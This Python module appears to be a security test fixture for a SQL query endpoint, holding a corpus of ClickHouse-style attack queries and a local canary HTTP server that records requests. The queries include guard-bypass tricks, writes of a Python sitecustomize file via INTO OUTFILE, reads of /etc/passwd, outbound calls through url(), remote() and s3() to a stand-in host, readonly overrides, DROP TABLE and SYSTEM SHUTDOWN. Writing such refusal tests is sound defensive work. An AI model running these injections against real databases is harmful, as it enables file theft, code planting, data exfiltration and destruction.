"""The SQL endpoint's attack corpus (issue 12) and a canary HTTP server that counts whatever reaches it.

Every attack names its targets through ``{out}`` (a folder the test watches for new files) and
``{canary}`` (``127.0.0.1:port`` of the canary): a refused attack leaves both untouched.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PASSWD_MARK = "root:x:0:0"  # what /etc/passwd's first line starts with

_OUTFILE_TAILS = [
    "INTO OUTFILE '{out}/sitecustomize.py' FORMAT RawBLOB",
    "INTO OUTFILE '{out}/a.txt' APPEND",
    "INTO OUTFILE '{out}/t.txt' TRUNCATE FORMAT CSV",
    "INTO OUTFILE '{out}/s.txt' AND STDOUT",
    "INTO OUTFILE '{out}/c.gz' COMPRESSION 'gzip' LEVEL 3",
    "into outfile '{out}/lower.txt'",
    "InTo OuTfIlE '{out}/mixed.txt'",
    "INTO\n\tOUTFILE\r\n'{out}/ws.txt'",
    "INTO/* c */OUTFILE/**/'{out}/comment.txt'",
    "INTO -- c\nOUTFILE # c\n'{out}/linecomment.txt'",
    "INTO OUTFILE $$" + "{out}/heredoc.txt$$",
    "INTO OUTFILE $x$" + "{out}/tagged.txt$x$",
]

ATTACKS = [
    # the reproduction: a heredoc the old regex guard read as the start of a string
    "WITH $$'$$ AS q SELECT 'import os' INTO OUTFILE '{out}/sitecustomize.py' FORMAT RawBLOB",
    "WITH $tag$'$tag$ AS q SELECT 'x' INTO OUTFILE '{out}/sitecustomize.py' APPEND",
    "WITH $a$'\"`$a$ AS q SELECT 1 INTO OUTFILE '{out}/x.py' TRUNCATE",
    "WITH $$'$$ AS q SELECT 1; SELECT 2 INTO OUTFILE '{out}/second.txt'",
    "SELECT $$;$$ AS a; SELECT 'x' INTO OUTFILE '{out}/multi.txt'",
    "SELECT 1; INSERT INTO otel_traces (SpanName) VALUES ('x')",
    "EXPLAIN AST SELECT 1 INTO OUTFILE '{out}/explain.txt'",
    "EXPLAIN SELECT 1 INTO OUTFILE '{out}/explain2.txt'",
    "(SELECT 1) INTO OUTFILE '{out}/paren.txt'",
    "SELECT 1 UNION ALL SELECT 2 INTO OUTFILE '{out}/union.txt'",
    "SELECT * FROM (SELECT 1 INTO OUTFILE '{out}/sub.txt')",
    *[f"SELECT 'payload' {tail}" for tail in _OUTFILE_TAILS],
    # host files
    "SELECT * FROM file('/etc/passwd', 'LineAsString')",
    "select * from FILE('/etc/passwd', 'LineAsString')",
    "SELECT file('/etc/passwd')",
    "SELECT * FROM filesystem('/root')",
    "SELECT * FROM filesystem('/etc')",
    "DESCRIBE file('/etc/passwd', 'LineAsString')",
    "DESCRIBE TABLE url('http://{canary}/describe', 'LineAsString')",
    "SELECT * FROM sqlite('{out}/created.db', 't')",
    "SELECT 1 IN file('/etc/passwd')",
    # network
    "SELECT * FROM url('http://{canary}/secret', 'LineAsString')",
    "SELECT * FROM url('http://{canary}/secret', LineAsString, 'line String')",
    "SELECT * FROM remote('{canary}', system.one)",
    "SELECT * FROM remoteSecure('{canary}', system.one)",
    "SELECT * FROM s3('http://{canary}/bucket/key', 'LineAsString')",
    "SELECT * FROM postgresql('{canary}', 'db', 't', 'u', 'p')",
    "SELECT * FROM mysql('{canary}', 'db', 't', 'u', 'p')",
    "SELECT * FROM otel_traces WHERE SpanName IN (SELECT * FROM url('http://{canary}/in', 'LineAsString'))",
    "WITH x AS (SELECT * FROM url('http://{canary}/cte', 'LineAsString')) SELECT * FROM x",
    "SELECT * FROM otel_traces AS a JOIN url('http://{canary}/join', 'LineAsString') AS b ON 1",
    # other tables, dictionaries, settings, state
    "SELECT * FROM system.query_log",
    "SELECT query FROM system.processes",
    "SELECT 1 IN system.processes",
    "SHOW PROCESSLIST",
    "SHOW SETTINGS LIKE '%'",
    "SHOW CREATE TABLE otel_traces",
    "SELECT dictGet('d', 'x', toUInt64(1))",
    "SELECT joinGet('j', 'v', 1)",
    "SELECT * FROM numbers(300000000)",
    "SELECT groupArray(number) FROM numbers(3e8)",
    "SET additional_table_filters = {{'otel_traces': 'SpanName = \\'x\\''}}",
    "SET max_result_rows = 1",
    "SET readonly = 0",
    "SELECT count() FROM otel_traces SETTINGS readonly = 0",
    "SELECT count() FROM otel_traces SETTINGS max_result_rows = 1",
    "SELECT count() FROM otel_traces SETTINGS additional_table_filters = {{'otel_traces': '0'}}",
    "USE system",
    "INSERT INTO otel_traces (SpanName) VALUES ('x')",
    "CREATE TABLE evil (x String) ENGINE = File(RawBLOB, '{out}/engine.txt')",
    "DROP TABLE otel_traces",
    "SYSTEM SHUTDOWN",
    "KILL QUERY WHERE 1",
]


class Canary:
    """An HTTP server that records every request (path) that reaches it; ``with Canary() as c``."""

    def __init__(self) -> None:
        self.hits: list = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                canary.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "6")
                self.end_headers()
                self.wfile.write(b"secret")

            do_POST = do_HEAD = do_PUT = do_GET  # noqa: N815

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> Canary:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def table_function_attack(name: str, canary: str, out: str) -> str:
    """A call of table function ``name`` aimed at the canary and the watched folder."""
    if name.startswith("view"):  # view(SELECT ...), viewIfPermitted(SELECT ... ELSE ...)
        inner = f"SELECT * FROM url('http://{canary}/{name}', 'LineAsString')"
        return f"SELECT * FROM {name}({inner}{' ELSE null()' if name == 'viewIfPermitted' else ''})"
    return f"SELECT * FROM {name}('http://{canary}/{name}', '{out}/{name}.txt')"
